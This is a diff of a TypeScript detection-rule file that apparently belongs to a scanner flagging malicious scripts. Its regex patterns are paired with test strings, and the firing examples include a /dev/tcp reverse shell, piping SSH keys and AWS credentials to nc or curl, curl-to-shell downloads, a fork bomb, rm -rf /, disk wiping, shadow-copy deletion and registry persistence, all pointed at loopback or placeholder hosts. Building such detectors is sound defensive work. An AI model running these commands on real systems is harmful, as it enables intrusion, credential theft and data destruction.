@@ -1,28 +1,19 @@
-import type { Rule } from '../../domain/finding.ts';
+import { CARRYING_ROWS } from './carrying-rows.ts';
 import { ATTACKING_SCRIPT, FETCHED_CODE, HOST_ACCESS } from './rules.ts';
-
-/** What a line of a script does, with lines that do it and lines that look like it. */
-interface Row {
-  readonly rule: Rule;
-  readonly pattern: RegExp;
-  /** Where the script builds an image, this is no harm. */
-  readonly unlessImage?: true;
-  readonly fires: readonly string[];
-  readonly quiet: readonly string[];
-}
-
-const FETCH = '(?:curl|wget|fetch|aria2c|invoke-webrequest|invoke-restmethod|iwr|irm|start-bitstransfer)';
-const SHELL = '(?:(?:ba|z|da|k|fi)?sh|python[\\d.]*|perl|ruby|node|php|iex|invoke-expression|pwsh|powershell)';
+import { FETCH, PLAIN_SHELL, READER, type Row } from './script-row.ts';
+import { SPELT_ROWS } from './spelt-rows.ts';
 
 /** PowerShell takes any beginning of an option's name. */
 const ENCODED_COMMAND = Array.from('encodedcommand', (_, at) => 'encodedcommand'.slice(0, at + 1)).join('|');
 
 /** What scripts around models have no reason to do (malicious), and what installers do too (suspicious). */
 export const SCRIPT_ROWS: readonly Row[] = [
+  ...SPELT_ROWS,
+  ...CARRYING_ROWS,
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /(?:\b(?:curl|wget|nc|ncat|scp|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh\/|\.aws\/|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token|\/run\/secrets\/)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials|(?:~|\$\{?HOME\}?|\/root)\/\.(?:aws|ssh|kube|gnupg|azure|docker|config\/gcloud)\b).*\|\s*(?:curl|nc|ncat|wget)\b)/i,
+      /(?:\b(?:curl|wget|nc|ncat|scp|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh[\\/]|\.aws[\\/]|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token|\/run\/secrets\/)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials|(?:~|\$\{?HOME\}?|\/root)\/\.(?:aws|ssh|kube|gnupg|azure|docker|config\/gcloud|\w*_history|netrc)\b).*\|\s*(?:curl|nc|ncat|wget)\b)/i,
     fires: ['curl -d @$HOME/.aws/credentials http://127.0.0.1:9/', 'cat ~/.ssh/id_rsa | nc 127.0.0.1 9'],
     quiet: ['curl -O https://example.org/model.bin', 'chmod 600 ~/.ssh/id_rsa'],
   },
@@ -107,9 +98,11 @@ export const SCRIPT_ROWS: readonly Row[] = [
   },
   {
     rule: ATTACKING_SCRIPT,
-    pattern: /\/dev\/(?:tcp|udp)\/[\w.$\x7b}]+\/[\w$\x7b}]+/,
-    fires: ['bash -i >& /dev/tcp/127.0.0.1/9 0>&1'],
-    quiet: ['ls /dev/tcp'],
+    // Whether a port of this machine answers is what tests ask.
+    pattern:
+      /(?<!\bexec \d<>"?|\becho\s{0,3}>\s?"?|[(;]\s?:?\s?[<>]\s?"?)\/dev\/(?:tcp|udp)\/[\w.$\x7b}]+\/[\w$\x7b}]+|\/dev\/(?:tcp|udp)\/(?!(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1)\/)[\w.$\x7b}]+\/[\w$\x7b}]+/,
+    fires: ['bash -i >& /dev/tcp/127.0.0.1/9 0>&1', 'exec 3<>/dev/tcp/a.invalid/9'],
+    quiet: ['ls /dev/tcp', 'if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then'],
   },
   {
     rule: ATTACKING_SCRIPT,
@@ -133,8 +126,15 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\brm\s+-[a-z]*[rf][a-z]*\s+(?:-\S+\s+)*(?:--no-preserve-root\s+)?(?:\/|~|\$HOME|\/\*)(?:\s|$|\*)|\bdd\b[^\n]*\bof=\/dev\/(?:sd|nvme|hd|vd|mmcblk)|\bmkfs(?:\.\w+)?\s+\/dev\/|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}|\b(?:rd|rmdir)\s+\/s\b[^\n]*\s[a-z]:\\?(?:\s|$)|\bformat\s+[a-z]:\s*\/|\bvssadmin\b[^\n]*\bdelete\b|\bRemove-Item\b[^\n]*-Recurse[^\n]*\s(?:[A-Z]:\\|\$HOME|~)(?:\s|$)/im,
-    fires: ['rm -rf /', 'rm -rf ~ ', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'vssadmin delete shadows /all'],
+      /\brm\s+-[a-z]*[rf][a-z]*\s+(?:-\S+\s+)*(?:--no-preserve-root\s+)?"?(?:\/|~|\$\{?HOME\}?|\/\*)"?(?:\s|$|\/?\*|\/?\.\[)|\bdd\b[^\n]*\bof=\/dev\/(?:sd|nvme|hd|vd|mmcblk)|\bmkfs(?:\.\w+)?\s+\/dev\/|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}|\b(?:rd|rmdir)\s+\/s\b[^\n]*\s[a-z]:\\?(?:\s|$)|\bformat\s+[a-z]:\s*\/|\bvssadmin\b[^\n]*\bdelete\b|\bRemove-Item\b[^\n]*-Recurse[^\n]*\s(?:[A-Z]:\\|\$HOME|~)(?:\s|$)/im,
+    fires: [
+      'rm -rf /',
+      'rm -rf "$HOME"/*',
+      'rm -rf ~ ',
+      'dd if=/dev/zero of=/dev/sda',
+      ':(){ :|:& };:',
+      'vssadmin delete shadows /all',
+    ],
     quiet: ['rm -rf build', 'rm -rf /tmp/cache', 'rd /s /q build'],
   },
   {
@@ -149,14 +149,19 @@ export const SCRIPT_ROWS: readonly Row[] = [
     rule: ATTACKING_SCRIPT,
     unlessImage: true,
     pattern:
-      /^(?!\s*echo\s+["']?export\s+[A-Z_]+=[\w:/.$\x7b}"']*["']?\s*>>).*(?:>>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:bashrc|bash_profile|profile|zshrc|zshenv)|>>?\s*\/etc\/(?:profile|sudoers|hosts)|\bchmod\s+(?:u\+s|[4-7]7\d\d)\b)/m,
+      /^(?![^>\n]*\becho\s+["']*(?:export\s+[A-Z_]+=[\w:/.$\x7b}"']*|eval "\$\((?:\S*\/)?conda shell\.\w+ hook\)"|(?:conda|source) activate [\w-]+)["']*\s*>>).*(?:>>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:bashrc|bash_profile|profile|zshrc|zshenv)|>>?\s*\/etc\/(?:profile|sudoers|hosts)|\bchmod\s+(?:u\+s|[4-7]7\d\d)\b)/m,
     fires: ['echo x >> ~/.bashrc', 'chmod u+s /tmp/x', "echo 'export PATH=$(curl x)' >> ~/.profile"],
-    quiet: ['source ~/.bashrc', 'chmod 755 run.sh', 'echo "export PATH=/opt/x/bin:$PATH" >> ~/.bashrc'],
+    quiet: [
+      'source ~/.bashrc',
+      'chmod 755 run.sh',
+      'echo "export PATH=/opt/x/bin:$PATH" >> ~/.bashrc',
+      `which conda && echo 'eval "$(conda shell.bash hook)"' >> ~/.bashrc`,
+    ],
   },
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\bcertutil\b[^\n]*-(?:urlcache|decode)\b|\bmshta\b\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\b[^\n]*\/i:https?:|\brundll32\b[^\n]*(?:javascript:|url\.dll|https?:)|\bbitsadmin\b[^\n]*\/transfer\b|\breg\s+add\b[^\n]*\\(?:Run|RunOnce|Image File Execution Options|Winlogon)\b|\bschtasks\b[^\n]*\/create\b|\bnet\s+(?:user|localgroup)\b[^\n]*\/add\b|\b(?:Set|Add)-MpPreference\b[^\n]*-(?:Disable|Exclusion)|\bNew-ScheduledTask\w*\b|\bSet-ItemProperty\b[^\n]*\\Run\b|\bwmic\b[^\n]*process\s+call\s+create\b/i,
+      /\bcertutil\b[^\n]*-(?:urlcache|decode)\b|\bmshta\b\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\b[^\n]*\/i:https?:|\brundll32\b[^\n]*(?:javascript:|url\.dll|https?:)|\bbitsadmin\b[^\n]*\/transfer\b|\breg\s+add\b[^\n]*\\Command Processor\b[^\n]*\bAutoRun\b|\breg\s+add\b[^\n]*\\(?:Run|RunOnce|Image File Execution Options|Winlogon)\b|\bschtasks\b[^\n]*\/create\b|\bnet\s+(?:user|localgroup)\b[^\n]*\/add\b|\b(?:Set|Add)-MpPreference\b[^\n]*-(?:Disable|Exclusion)|\bNew-ScheduledTask\w*\b|\bSet-ItemProperty\b[^\n]*\\Run\b|\bwmic\b[^\n]*process\s+call\s+create\b/i,
     fires: [
       'certutil -urlcache -f http://127.0.0.1:9/x x.exe',
       'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc',
@@ -201,7 +206,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: FETCHED_CODE,
     pattern:
-      /\b(?:exec|eval)\s*\([^\n]{0,120}(?:\burlopen\(|\brequests\.get\(|\burlretrieve\(|\bread_text\(|\bhttpx\.get\()|\brequire\s*\(\s*["']child_process["']\s*\)[^\n]{0,80}https?:/,
+      /\b(?:exec|eval|system|popen|Popen|check_call|check_output|subprocess\.run)\s*\([^\n]{0,120}(?:\burlopen\(|\brequests\.get\(|\burlretrieve\(|\bread_text\(|\bhttpx\.get\()|\brequire\s*\(\s*["']child_process["']\s*\)[^\n]{0,80}https?:/,
     fires: ['python3 -c "import urllib.request as u;exec(u.urlopen(\'http://127.0.0.1:9/x\').read())"'],
     quiet: ["python3 -c 'import urllib.request as u;print(u.urlopen(x).read())'"],
   },
@@ -221,15 +226,22 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: FETCHED_CODE,
     pattern: new RegExp(
-      `\\b${FETCH}\\b[^\\n|;]*(?:\\||\\bCOMMAND\\b)\\s*(?:sudo\\s+(?:-\\S+\\s+)*)?(?:/\\S*/)?${SHELL}\\b`,
+      `\\b${FETCH}\\b[^\\n;]*(?:(?<!\\|)\\|(?!\\|)|\\bCOMMAND\\b)\\s*(?:(?:sudo|env|nohup|exec|command|busybox|time|nice)\\s+(?:-\\S+\\s+|\\w+=\\S*\\s+)*)*(?:/\\S*/)?(?:${PLAIN_SHELL}\\b|${READER}|source\\s*(?:$|[;&|'"]))`,
       'i',
     ),
     fires: [
       'curl -s http://127.0.0.1:9/x | sh',
       'wget -qO- http://127.0.0.1:9/x | sudo -E bash -',
       'irm http://127.0.0.1:9/x | iex',
+      'curl http://127.0.0.1:9/x | tee x | env A=1 bash -s --',
+      'dig +short txt x.invalid | busybox sh',
     ],
-    quiet: ['curl -s https://example.org/x | jq .', 'wget https://example.org/model.bin'],
+    quiet: [
+      'curl -s https://example.org/x | jq .',
+      'curl -s http://localhost:8000/v1/models | python3 -m json.tool',
+      "curl -s https://example.org/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
+      'wget https://example.org/model.bin',
+    ],
   },
   {
     rule: FETCHED_CODE,
@@ -265,11 +277,13 @@ export const SCRIPT_ROWS: readonly Row[] = [
     rule: FETCHED_CODE,
     // Packages from an address, or from an index whose answers nobody protects.
     pattern:
-      /\b(?:pip3?|uv|poetry|conda|mamba|npm|yarn|pnpm|npx|go|cargo|gem)\b[^\n]*\s(?:install|add|exec|x|run|get)?\b[^\n]*(?:\s(?:git\+)?http:\/\/|\s(?:git\+)?https?:\/\/\d{1,3}(?:\.\d{1,3}){3}|--(?:extra-)?index-url[\s=]+["']?http:|--trusted-host\b|--registry[\s=]+["']?http:)/i,
+      /\b(?:pip3?|uv|poetry|conda|mamba|npm|yarn|pnpm|npx|go|cargo|gem)\b[^\n]*(?:\s(?:git\+)?http:\/\/|\s(?:git\+)?https?:\/\/\d{1,3}(?:\.\d{1,3}){3}|--(?:extra-)?index-url[\s=]+["']?http:|--trusted-host\b|--registry[\s=]+["']?http:)|\b(?:PIP_(?:EXTRA_)?INDEX_URL|UV_(?:DEFAULT_|EXTRA_)?INDEX(?:_URL)?|NPM_CONFIG_REGISTRY)[= ]+["']?http:/i,
     fires: [
       'pip install --extra-index-url http://127.0.0.1:9/ x',
       'pip install http://127.0.0.1:9/x.whl',
       'npm i --registry=http://127.0.0.1:9 x',
+      'npx -y http://127.0.0.1:9/x.tgz',
+      'ENV PIP_INDEX_URL=http://127.0.0.1:9/simple',
     ],
     quiet: ['pip install -r requirements.txt', 'pip install torch --index-url https://download.example.org/whl/cu121'],
   },
